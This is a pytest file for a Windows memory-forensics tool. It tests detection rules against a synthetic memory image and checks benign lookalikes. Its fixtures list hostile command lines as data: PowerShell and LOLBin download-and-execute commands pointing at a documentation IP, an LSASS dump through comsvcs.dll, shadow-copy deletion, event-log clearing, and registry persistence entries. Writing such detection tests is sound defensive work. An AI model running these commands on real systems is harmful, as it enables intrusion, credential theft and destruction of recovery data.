"""Which texts the rules for Windows take for evil, and which for harmless ones."""

from __future__ import annotations

from typing import TYPE_CHECKING, Any

import pytest

from memq.hunt.attack import load_attack
from memq.hunt.loading import load_playbook
from memq.hunt.running import run_playbook
from memq.image import open_image
from memq.run import Run
from memq.symbols.store import ProfileStore
from tests.lab import ROOT
from tests.os.windows.built import table_of, with_unnamed
from tests.synthetic.windows.hunted_registry import service, text, with_parents
from tests.synthetic.windows.machine import VOLUME, Machine
from tests.synthetic.windows.options import Options
from tests.synthetic.windows.process import write_path

if TYPE_CHECKING:
    from collections.abc import Iterator
    from pathlib import Path

    from tests.synthetic.windows.registry import Values

FOLDER = ROOT / "memq" / "playbooks" / "windows"
SYSTEM32 = "C:\\Windows\\System32\\"
COMMANDS = {
    "hidden-powershell": (
        "powershell.exe -nop -w hidden -File a.ps1",
        "C:\\Windows\\v1.0\\PowerShell.EXE -EncodedCommand SQBFAFgAIAAxAA==",
        "powershell -ec SQBFAFgAIAAxAA==",
        "pwsh -c \"iex (irm x)\"",
        "cmd /c powershell (New-Object Net.WebClient).DownloadString('http://x')",
    ),
    "proxy-execution": (
        "mshta.exe http://203.0.113.7/a.hta",
        "\"C:\\Windows\\System32\\mshta.exe\" vbscript:Execute(1)",
        "regsvr32 /s /n /u /i:http://203.0.113.7/a.sct scrobj.dll",
        "rundll32.exe C:\\windows\\System32\\comsvcs.dll, #24 540 c:\\x.bin full",
        "rundll32 javascript:\"\\..\\mshtml,RunHTMLApplication \"",
        "certutil -urlcache -split -f http://203.0.113.7/a.exe a.exe",
        "bitsadmin /transfer j http://203.0.113.7/a.exe c:\\a.exe",
        "wmic /node:10.0.0.7 process call create calc.exe",
        "msiexec /q /i https://203.0.113.7/a.msi",
    ),
    "recovery-inhibited": (
        "vssadmin.exe delete shadows /all /quiet",
        "wmic shadowcopy delete",
        "wbadmin delete catalog -quiet",
        "bcdedit /set {default} recoveryenabled No",
        "bcdedit.exe /set {default} bootstatuspolicy ignoreallfailures",
        "powershell Get-WmiObject Win32_Shadowcopy | ForEach-Object {$_.Delete();}",
    ),
    "event-log-cleared": (
        "wevtutil cl Security",
        "\"C:\\Windows\\System32\\wevtutil.exe\" clear-log System",
        "wevtutil sl Security /e:false",
        "powershell Clear-EventLog -LogName Security",
    ),
    "": (
        "powershell.exe -ExecutionPolicy RemoteSigned -File C:\\scripts\\backup.ps1",
        "notepad.exe C:\\texts\\how to use powershell -enc.txt",
        "C:\\Windows\\System32\\mshta.exe C:\\Program Files\\x\\setup.hta",
        "regsvr32.exe /s C:\\Windows\\System32\\x.dll",
        "rundll32.exe shell32.dll,Control_RunDLL desk.cpl",
        "certutil -hashfile a.exe SHA256",
        "msiexec.exe /V",
        "vssadmin list shadows",
        "bcdedit /enum",
        "wevtutil qe Security /c:5",
        "C:\\Windows\\System32\\svchost.exe -k netsvcs -p",
    ),
}  # fmt: skip
"""Command lines by the rule that finds them; those that none finds at last."""

RUN = "Microsoft\\Windows\\CurrentVersion\\Run"
LOGON = "Microsoft\\Windows NT\\CurrentVersion\\Winlogon"
OPTIONS = "Microsoft\\Windows NT\\CurrentVersion\\Image File Execution Options"
FOR_ALL = "Microsoft\\Windows NT\\CurrentVersion\\Windows"
LSA = "System\\Control\\Lsa"
VALUES: dict[str, tuple[tuple[str, str, str], ...]] = {
    "autorun-from-user-folder": (
        (RUN, "a", "C:\\ProgramData\\x\\a.exe"),
        (RUN, "b", "%APPDATA%\\a.exe"),
        (RUN, "c", "mshta.exe http://203.0.113.7"),
        (RUN + "Once", "d", "C:\\Windows\\Temp\\a.exe"),
        ("Microsoft\\Windows\\CurrentVersion\\Policies\\Explorer\\Run", "e", "C:\\Users\\a\\a.exe"),
    ),
    "logon-program": (
        (LOGON, "Shell", "C:\\x\\explorer.exe"),
        (LOGON, "Userinit", "C:\\Windows\\system32\\userinit.exe,C:\\x.exe"),
        (LOGON, "Taskman", "C:\\x.exe"),
    ),
    "program-debugger": (
        (f"{OPTIONS}\\utilman.exe", "Debugger", "cmd.exe"),
        ("Microsoft\\Windows NT\\CurrentVersion\\SilentProcessExit\\a.exe", "MonitorProcess", "x"),
    ),
    "library-in-all-programs": ((FOR_ALL, "AppInit_DLLs", "x.dll"),),
    "security-package": ((LSA, "Notification Packages", "filter"),),
    "": (
        (f"Other\\{RUN}", "a", "%windir%\\system32\\SecurityHealthSystray.exe"),
        (f"Other\\{RUN}", "b", "\"C:\\Program Files\\x\\x.exe\" /background"),
        ("Microsoft\\Windows\\CurrentVersion\\RunX", "a", "C:\\Users\\a\\a.exe"),
        (f"Other\\{LOGON}", "Shell", "C:\\WINDOWS\\Explorer.EXE"),
        (f"Other\\{LOGON}", "Userinit", "C:\\WINDOWS\\system32\\userinit.exe,"),
        (f"More\\{LOGON}", "Userinit", "userinit.exe"),
        (f"{OPTIONS}\\a.exe", "GlobalFlag", "0x200"),
        (f"{OPTIONS}\\Your Image File Name Here without a path", "Debugger", "ntsd -d"),
        (f"Other\\{FOR_ALL}", "AppInit_DLLs", " "),
        (f"Other\\{LSA}", "Security Packages", "\"\""),
        (f"Other\\{LSA}", "Notification Packages", "scecli"),
    ),
}  # fmt: skip
"""Keys below the hive's root, names and data by the rule that finds them, those of none at last."""

SERVICES = {
    "odd-service-program": (
        "cmd.exe /c start x", "%COMSPEC% /c echo a > \\\\.\\pipe\\a", "\\\\10.0.0.7\\share\\a.exe",
        "\"C:\\Users\\a\\AppData\\a.exe\" -k", "\\??\\C:\\Windows\\Temp\\a.sys", "rundll32 a.dll,b",
    ),
    "": (
        "%SystemRoot%\\System32\\svchost.exe -k netsvcs", "System32\\drivers\\cmdide.sys",
        "\\SystemRoot\\System32\\drivers\\a.sys", "\\??\\C:\\Windows\\System32\\drivers\\b.sys",
        "\"C:\\ProgramData\\Microsoft\\Windows Defender\\Platform\\4.18.1\\MsMpEng.exe\"",
        "\"C:\\Program Files\\rundll32 tools\\x.exe\"",
    ),
}  # fmt: skip
"""Programs of services."""

FILES = {
    "system-name-elsewhere": (
        ("\\Windows\\svchost.exe", None), ("\\Windows\\System32\\drivers\\lsass.exe", None),
        ("\\Windows.old\\Windows\\System32\\csrss.exe", None), ("\\Temp\\explorer.exe", None),
    ),
    "changed-program-path": (
        ("\\x\\a.exe", "C:\\Windows\\System32\\a.exe"), ("\\x\\a.exe", "\\SystemRoot\\a.exe"),
    ),
    "double-extension": (
        ("\\x\\a.docx.exe", None), ("\\x\\holiday.jpg       .scr", None),
        ("\\x\\a.zip.com", None),
    ),
    "program-from-user-folder": (
        ("\\Temp\\explorer.exe", None), ("\\$Recycle.Bin\\a.exe", None),
        ("\\Users\\a\\AppData\\Local\\a.exe", None), ("\\Users\\Public\\Music\\a.exe", None),
    ),
    "": (
        ("\\Windows\\System32\\svchost.exe", "\\??\\C:\\WINDOWS\\system32\\svchost.exe"),
        ("\\Windows\\SysWOW64\\rundll32.exe", "C:\\Windows\\System32\\rundll32.exe"),
        ("\\Windows\\explorer.exe", "C:\\Windows\\Explorer.EXE"),
        ("\\Windows\\System32\\smss.exe", "\\SystemRoot\\System32\\smss.exe"),
        ("\\Program Files\\x.pdf tools\\a.exe", "\\\\?\\C:\\Program Files\\x.pdf tools\\a.exe"),
        ("\\Program Files\\long name\\a.exe", "C:\\PROGRA~1\\LONGNA~1\\a.exe"),
        ("\\Users\\a\\AppData\\Local\\Microsoft\\OneDrive\\OneDrive.exe", None),
    ),
}  # fmt: skip
"""Paths of programs, and what the programs say themselves where that is another one."""


def _flat(table: dict[str, Any]) -> Iterator[Any]:
    for entries in table.values():
        yield from entries


def _machine() -> Machine:
    machine = Machine(with_unnamed(table_of(ProfileStore(), 19041, "x64")), Options(build=19041))
    for number, command in enumerate(_flat(COMMANDS)):
        process = machine.process(1000 + 4 * number, "program.exe")
        machine.peb(process, 0x40_0000, f"{SYSTEM32}program.exe", command)
    for number, (file, own) in enumerate(_flat(FILES)):
        name = file.rpartition("\\")[2]
        process = machine.process(3000 + 4 * number, name[:14])
        write_path(machine.kernel, process.record, VOLUME + file)
        machine.peb(process, 0x40_0000, f"C:{file}" if own is None else own, name)
    keys: dict[str, Values] = {}
    for key, name, data in _flat(VALUES):
        keys.setdefault(key, {})[name] = text(data)
    owner = machine.process(92, "Registry", session=None)
    machine.registry.hive(
        "\\REGISTRY\\MACHINE\\SOFTWARE", with_parents(keys), file="SOFTWARE", process=owner
    )
    services: dict[str, Values] = {"Select": {"Current": service(1, 1, "")["Type"]}}
    for number, path in enumerate(_flat(SERVICES)):
        services[f"ControlSet001\\Services\\s{number}"] = service(0x10, 3, path)
    machine.registry.hive(
        "\\REGISTRY\\MACHINE\\SYSTEM", with_parents(services), file="SYSTEM", process=owner
    )
    return machine


@pytest.fixture(scope="module")
def evidence(tmp_path_factory: pytest.TempPathFactory) -> dict[str, list[dict[str, Any]]]:
    """The rows of each rule."""
    path: Path = tmp_path_factory.mktemp("texts") / "texts.raw"
    _machine().finish().save_raw(path)
    names = {*COMMANDS, *VALUES, *SERVICES, *FILES} - {""}
    playbook = load_playbook([FOLDER / f"{name}.yml" for name in sorted(names)], load_attack())
    with open_image(path) as image:
        found = list(run_playbook(playbook.rules, image, Run()))
    return {name: list(one.evidence) for name, one in zip(sorted(names), found, strict=True)}


@pytest.mark.parametrize("rule", [name for name in COMMANDS if name])
def test_command_lines(rule: str, evidence: dict[str, list[dict[str, Any]]]) -> None:
    assert [row["command_line"] for row in evidence[rule]] == list(COMMANDS[rule])


@pytest.mark.parametrize("rule", [name for name in VALUES if name])
def test_values_of_the_registry(rule: str, evidence: dict[str, list[dict[str, Any]]]) -> None:
    root = "\\REGISTRY\\MACHINE\\SOFTWARE\\"
    found = {(row["key"].removeprefix(root), row["name"], row["data"]) for row in evidence[rule]}
    assert found == set(VALUES[rule])


def test_programs_of_services(evidence: dict[str, list[dict[str, Any]]]) -> None:
    found = {row["image_path"] for row in evidence["odd-service-program"]}
    assert found == set(SERVICES["odd-service-program"])


@pytest.mark.parametrize("rule", [name for name in FILES if name])
def test_paths_of_programs(rule: str, evidence: dict[str, list[dict[str, Any]]]) -> None:
    found = {row["program"].removeprefix(VOLUME) for row in evidence[rule]}
    assert found == {file for file, _ in FILES[rule]}
